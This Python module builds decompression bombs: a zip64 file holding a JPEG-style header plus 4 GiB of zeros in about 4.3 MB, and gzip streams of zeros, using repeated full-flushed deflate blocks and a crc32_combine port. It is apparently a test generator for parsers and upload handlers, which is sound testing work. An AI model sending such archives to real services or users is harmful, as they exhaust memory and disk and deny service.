"""Decompression bombs built without inflating them: a zip whose one deflated member is a
JPEG header followed by 4 GiB of zeros (4.3 MB on disk), and gzip streams of zeros. Deflate
output after a full flush depends only on the input that follows, so one compressed MiB of
zeros is repeated; the CRC-32 of the zeros is computed by zlib's crc32_combine method."""

from __future__ import annotations

import struct
import zlib

MIB = 1 << 20


def _gf2_times(matrix: list[int], vec: int) -> int:
    out = 0
    i = 0
    while vec:
        if vec & 1:
            out ^= matrix[i]
        vec >>= 1
        i += 1
    return out


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, m) for m in matrix]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """zlib's crc32_combine: the CRC-32 of A + B from crc(A), crc(B) and len(B)."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << i for i in range(31)]  # one zero bit
    even = _gf2_square(odd)  # two zero bits
    odd = _gf2_square(even)  # four
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def crc32_of_zeros(n: int) -> int:
    if n == 0:
        return 0
    half = crc32_of_zeros(n // 2)
    crc = crc32_combine(half, half, n // 2)
    return zlib.crc32(b"\0", crc) if n % 2 else crc


def deflate_then_zeros(prefix: bytes, zeros: int, wbits: int = -15) -> tuple[bytes, int, int]:
    """(compressed stream, CRC-32 of the data, data length) for `prefix` + `zeros` zero bytes."""
    c = zlib.compressobj(9, zlib.DEFLATED, wbits)
    parts = [c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)]
    block = c.compress(bytes(MIB)) + c.flush(zlib.Z_FULL_FLUSH)
    parts.append(block)
    parts.extend([block] * (zeros // MIB - 1))
    rest = zeros % MIB
    if rest:
        parts.append(c.compress(bytes(rest)) + c.flush(zlib.Z_FULL_FLUSH))
    parts.append(c.flush(zlib.Z_FINISH))
    crc = crc32_combine(zlib.crc32(prefix), crc32_of_zeros(zeros), zeros)
    return b"".join(parts), crc, len(prefix) + zeros


def zip64_bomb(name: str, prefix: bytes, zeros: int = 4 * 1024 * MIB) -> bytes:
    """A zip (zip64 sizes) holding one deflated member: `prefix` then `zeros` zero bytes."""
    data, crc, size = deflate_then_zeros(prefix, zeros)
    encoded = name.encode()
    extra = struct.pack("<HHQQ", 1, 16, size, len(data))
    local = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 45, 0, 8, 0, 0x5821, crc,
        0xFFFFFFFF, 0xFFFFFFFF, len(encoded), len(extra),
    ) + encoded + extra  # fmt: skip
    central = struct.pack(
        "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 45, 45, 0, 8, 0, 0x5821, crc,
        0xFFFFFFFF, 0xFFFFFFFF, len(encoded), len(extra), 0, 0, 0, 0, 0,
    ) + encoded + extra  # fmt: skip
    cd_offset = len(local) + len(data)
    eocd64_offset = cd_offset + len(central)
    eocd64 = struct.pack(
        "<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, len(central), cd_offset
    )
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, eocd64_offset, 1)
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), 0xFFFFFFFF, 0)
    return local + data + central + eocd64 + locator + eocd


def gzip_of_zeros(prefix: bytes, zeros: int) -> bytes:
    """A gzip stream (RFC 1952) of `prefix` then `zeros` zero bytes."""
    data, crc, size = deflate_then_zeros(prefix, zeros)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + data + struct.pack("<II", crc, size & 0xFFFFFFFF)
